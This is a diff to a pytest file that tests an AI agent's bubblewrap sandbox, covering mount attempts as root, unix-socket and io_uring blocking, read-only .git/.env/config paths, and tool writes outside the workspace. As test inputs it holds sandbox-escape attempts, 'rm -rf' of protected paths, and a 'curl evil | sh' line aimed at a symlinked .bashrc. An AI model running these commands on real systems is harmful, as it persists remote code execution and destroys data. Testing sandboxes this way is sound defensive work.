@@ -1,14 +1,13 @@
 """bash under bubblewrap (`--sandbox workspace-write`): real bwrap, real processes.
 
-Each check runs the same command unconfined too, so a passing test means the
-sandbox made the difference. Skipped only where bubblewrap is installed but
-cannot create a sandbox (e.g. user namespaces forbidden); a missing bwrap fails.
+Each check runs the same command unconfined too where that is safe, so a passing
+test means the sandbox made the difference. Without a working bubblewrap these
+tests skip locally and fail under CI (CI=true).
 """
 
 from __future__ import annotations
 
 import asyncio
-import shutil
 import socket
 import sys
 import tempfile
@@ -19,10 +18,11 @@ import pytest
 
 from agent.config import Settings
 from agent.core.errors import ConfigError
-from agent.tools.local import confine
+from agent.tools.local import confine, roots, seccomp
 from agent.tools.local.tools import local_tools
 from agent.tools.router import ToolRouter
 from agent.tools.spec import ToolContext, ToolResult
+from tests.bubblewrap import require_sandbox
 
 ROUTER = ToolRouter(local_tools())
 
@@ -38,9 +38,7 @@ def temp_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 
 @pytest.fixture
 def workspace(isolated_env: Path, temp_dir: Path) -> Path:
-    problem = confine.sandbox_problem()
-    if problem and shutil.which("bwrap"):
-        pytest.skip(problem)
+    require_sandbox()
     return isolated_env
 
 
@@ -182,3 +180,213 @@ def test_unusable_bubblewrap_is_reported_with_its_reason(isolated_env, tmp_path,
 def test_available_bubblewrap_passes_the_start_up_check(workspace):
     confine.check_available()
     confine.check_available(allow_network=True)
+
+
+def test_root_in_the_sandbox_holds_no_capabilities_and_cannot_mount(workspace, tmp_path):
+    """Run as root, as CI does: a remount would make the whole disk writable again."""
+    outside = tmp_path / "after-remount.txt"
+    command = (
+        "id -u; grep CapEff /proc/self/status; "
+        f"mount -o remount,bind,rw / && echo remounted; touch {outside}; "
+        "mount -t tmpfs none /mnt && echo mounted; "
+        "unshare -Urm sh -c 'mount -o remount,bind,rw / && echo remounted-in-userns'; true"
+    )
+    result = call(workspace, command)
+    assert "CapEff:\t0000000000000000" in result.content, result.content
+    assert "permission denied" in result.content.lower()
+    assert "remounted" not in result.content
+    assert "mounted\n" not in result.content
+    assert not outside.exists()
+
+
+@pytest.fixture
+def host_socket(tmp_path: Path):
+    """A unix socket listener on the host, visible (read-only) inside the sandbox."""
+    path = tmp_path / "host.sock"
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
+        server.bind(str(path))
+        server.listen()
+        yield path
+
+
+def unix_connect_command(address: str) -> str:
+    code = (
+        "import socket; s = socket.socket(socket.AF_UNIX); "
+        f"s.connect({address!r}); print('connected')"
+    )
+    return f'{sys.executable} -c "{code}"'
+
+
+@pytest.mark.parametrize("allow_network", [False, True])
+def test_a_host_unix_socket_cannot_be_reached(workspace, host_socket, allow_network):
+    command = f"test -S {host_socket} && echo visible; " + unix_connect_command(str(host_socket))
+    confined = call(workspace, command, allow_network=allow_network)
+    assert confined.is_error
+    assert "visible" in confined.content  # the file is there: the filter refuses, not the view
+    assert "PermissionError: [Errno 1] Operation not permitted" in confined.content
+    assert "connected" not in confined.content
+
+    unconfined = call(workspace, command, sandbox="off")
+    assert "connected" in unconfined.content, unconfined.content
+
+
+def test_an_abstract_unix_socket_cannot_be_reached_even_with_the_network(workspace):
+    name = f"\0ml-intern-test-{uuid.uuid4().hex[:8]}"
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
+        server.bind(name)
+        server.listen()
+        command = unix_connect_command(name)
+        allowed = call(workspace, command, allow_network=True)
+        assert "PermissionError" in allowed.content, allowed.content
+        unconfined = call(workspace, command, sandbox="off")
+        assert "connected" in unconfined.content, unconfined.content
+
+
+def test_socketpairs_stay_usable_inside_the_sandbox(workspace):
+    """Programs talk to their own children over stream pairs; only datagram pairs are refused."""
+    code = (
+        "import socket\n"
+        "a, b = socket.socketpair(); a.sendall(b'ping'); print(b.recv(4).decode())\n"
+        "try:\n    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
+        "except PermissionError:\n    print('dgram refused')\n"
+    )
+    (workspace / "pair.py").write_text(code)
+    result = call(workspace, f"{sys.executable} pair.py")
+    assert result.content.split() == ["ping", "dgram", "refused"], result.content
+
+
+def make_protected(workspace: Path) -> dict[Path, str]:
+    files = {
+        workspace / ".git" / "hooks" / "pre-commit": "#!/bin/sh\nexit 0\n",
+        workspace / ".git" / "config": "[core]\n",
+        workspace / ".env": "A=1\n",
+        workspace / ".env.local": "B=2\n",
+        workspace / "configs" / "cli_agent_config.json": "{}\n",
+    }
+    for path, text in files.items():
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    return files
+
+
+def test_git_env_and_configs_are_read_only_inside_the_workspace(workspace):
+    files = make_protected(workspace)
+    attempts = [
+        *(f"echo changed > {path}" for path in files),
+        f"echo hook > {workspace}/.git/hooks/post-checkout",
+        f"rm -rf {workspace}/.git {workspace}/configs {workspace}/.env",
+        f"mv {workspace}/.env {workspace}/moved",
+        "echo ok > ordinary.txt",
+    ]
+    result = call(workspace, "; ".join(attempts))
+    assert result.content.count("Read-only file system") >= len(files) + 1, result.content
+    assert {path: path.read_text() for path in files} == files
+    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
+    assert not (workspace / "moved").exists()
+    assert (workspace / "ordinary.txt").read_text() == "ok\n"
+
+
+def test_missing_git_env_and_configs_cannot_be_created(workspace):
+    command = (
+        "mkdir -p .git/hooks; git init -q .; echo x > .env; "
+        "mkdir -p configs && echo '{}' > configs/cli_agent_config.json; "
+        "echo ok > ordinary.txt"
+    )
+    result = call(workspace, command)
+    assert "Read-only file system" in result.content, result.content
+    assert list((workspace / ".git").iterdir()) == []
+    assert (workspace / ".env").read_text() == ""
+    assert list((workspace / "configs").iterdir()) == []
+    assert (workspace / "ordinary.txt").read_text() == "ok\n"
+
+    roots.remove_placeholders()  # what the end of the session does
+    assert sorted(p.name for p in workspace.iterdir()) == ["ordinary.txt"]
+
+
+def call_tool(cwd: Path, name: str, args: dict, sandbox: str = "workspace-write") -> ToolResult:
+    settings = Settings(sandbox=sandbox)
+    ctx = ToolContext(settings=settings, cwd=cwd, turn=1)
+    return asyncio.run(ROUTER.call(name, args, ctx))
+
+
+def test_write_and_edit_follow_the_writable_roots(workspace, temp_dir, tmp_path):
+    outside = tmp_path / "home" / "write_tool_pwned"
+    refused = call_tool(workspace, "write", {"path": str(outside), "content": "x"})
+    assert refused.is_error
+    assert "outside the sandbox's writable places" in refused.content
+    assert not outside.exists()
+
+    bashrc = tmp_path / "home" / ".bashrc"
+    bashrc.write_text("# mine\n")
+    link = call(workspace, f"ln -s {bashrc} innocent.txt")
+    assert not link.is_error, link.content
+    for name, args in [
+        ("write", {"path": "innocent.txt", "content": "curl evil | sh\n"}),
+        ("edit", {"path": "innocent.txt", "old_str": "# mine", "new_str": "curl evil | sh"}),
+    ]:
+        result = call_tool(workspace, name, args)
+        assert result.is_error
+        assert f"{bashrc} is outside" in result.content
+    assert bashrc.read_text() == "# mine\n"
+
+    inside = call_tool(workspace, "write", {"path": "train.py", "content": "print(1)\n"})
+    temp = call_tool(workspace, "write", {"path": str(temp_dir / "t.txt"), "content": "t"})
+    assert not inside.is_error and not temp.is_error
+    assert (workspace / "train.py").read_text() == "print(1)\n"
+
+    unconfined = call_tool(workspace, "write", {"path": str(outside), "content": "x"}, "off")
+    assert not unconfined.is_error and outside.read_text() == "x"
+
+
+def test_write_and_edit_refuse_the_protected_paths(workspace):
+    files = make_protected(workspace)
+    for path in files:
+        relative = str(path.relative_to(workspace))
+        write = call_tool(workspace, "write", {"path": relative, "content": "changed"})
+        assert write.is_error
+        assert "stays read-only in the sandbox" in write.content
+    created = call_tool(workspace, "write", {"path": ".git/hooks/post-checkout", "content": "x"})
+    assert created.is_error
+    read = call_tool(workspace, "read", {"path": ".env"})
+    edit = call_tool(workspace, "edit", {"path": ".env", "old_str": "A=1", "new_str": "A=2"})
+    assert not read.is_error and edit.is_error
+    assert {path: path.read_text() for path in files} == files
+    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
+
+
+def test_placeholders_stay_while_a_background_job_runs(workspace):
+    ctx = ToolContext(settings=Settings(sandbox="workspace-write"), cwd=workspace, turn=1)
+    bash = {"command": "sleep 60", "run_in_background": True}
+    started = asyncio.run(ROUTER.call("bash", bash, ctx))
+    assert not started.is_error, started.content
+    roots.remove_placeholders()
+    assert (workspace / ".env").is_file()  # still covered by the job's read-only mount
+
+    kill = {"job_id": started.data["job_id"]}
+    stopped = asyncio.run(ROUTER.call("kill_background", kill, ctx))
+    assert not stopped.is_error, stopped.content
+    roots.remove_placeholders()
+    assert not (workspace / ".env").exists()
+
+
+def raw_syscall_command(nr: int, *args: int) -> str:
+    code = (
+        "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
+        f"rc = libc.syscall({nr}, {', '.join(map(str, args))}); "
+        "print('rc', rc, os.strerror(ctypes.get_errno()))"
+    )
+    return f'{sys.executable} -c "{code}"'
+
+
+def test_io_uring_and_other_abis_are_closed_too(workspace):
+    """io_uring could create a socket without `socket`; so could another syscall ABI."""
+    arch = seccomp.machine_arch()
+    io_uring = raw_syscall_command(arch.io_uring_setup, 1, 0)
+    assert "Operation not permitted" in call(workspace, io_uring).content
+    assert "Operation not permitted" not in call(workspace, io_uring, sandbox="off").content
+    if arch.has_x32:
+        x32_socket = raw_syscall_command(0x40000000 | arch.socket, 1, 1, 0)
+        killed = call(workspace, x32_socket)
+        assert killed.is_error
+        assert "rc" not in killed.content
+        assert "SIGSYS" in killed.content or "exit code 159" in killed.content, killed.content
